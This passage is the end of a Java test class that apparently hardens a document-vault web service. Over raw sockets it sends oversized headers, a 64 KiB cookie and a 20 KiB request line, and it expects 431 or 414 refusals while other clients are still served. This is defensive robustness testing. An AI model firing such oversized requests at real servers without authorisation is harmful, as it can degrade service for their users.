        RestAssured.given().get("/q/health/live").then().statusCode(200);
        assertTrue(System.nanoTime() - start < Duration.ofSeconds(2).toNanos(), "other clients are served at once");
    }

    private List<HostileCase> oversizedHeaders() {
        List<HostileCase> cases = new ArrayList<>();
        cases.add(new HostileCase("oversized headers", "one 64 KiB header", () -> RawHttp.send(port(),
                "GET /api/documents HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Padding: " + "a".repeat(64 * 1024)
                        + "\r\nConnection: close", new byte[0]),
                refusedByTransport(431, "Request Header Fields Too Large")));
        cases.add(new HostileCase("oversized headers", "2,000 small headers", () -> {
            StringBuilder head = new StringBuilder("GET /api/documents HTTP/1.1\r\nHost: 127.0.0.1");
            for (int i = 0; i < 2000; i++) {
                head.append("\r\nX-H").append(i).append(": ").append("v".repeat(10));
            }
            return RawHttp.send(port(), head + "\r\nConnection: close", new byte[0]);
        }, refusedByTransport(431, "Request Header Fields Too Large")));
        // Over a raw socket: the vault answers and closes while a client library would still be writing the cookie.
        cases.add(new HostileCase("oversized headers", "a 64 KiB cookie", () -> RawHttp.send(port(),
                "GET /api/documents HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: " + RawHttp.basic(analyst, Vault.PASSWORD)
                        + "\r\nCookie: strongroom-session=" + "c".repeat(64 * 1024) + "\r\nConnection: close", new byte[0]),
                refusedByTransport(431, "Request Header Fields Too Large")));
        cases.add(new HostileCase("oversized headers", "a 20 KiB request line", () -> RawHttp.send(port(),
                "GET /api/documents?q=" + "a".repeat(20 * 1024) + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close",
                new byte[0]), refusedByTransport(414, "URI Too Long")));
        return cases;
    }

    // ---------------------------------------------------------------- small helpers

    private static String printable(String s) {
        StringBuilder out = new StringBuilder();
        s.codePoints().limit(60).forEach(cp -> out.append(Character.isISOControl(cp) || Character.getType(cp) == Character.FORMAT
                ? String.format("\\u%04X", cp) : Character.toString(cp)));
        return out.toString();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] all = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }
}
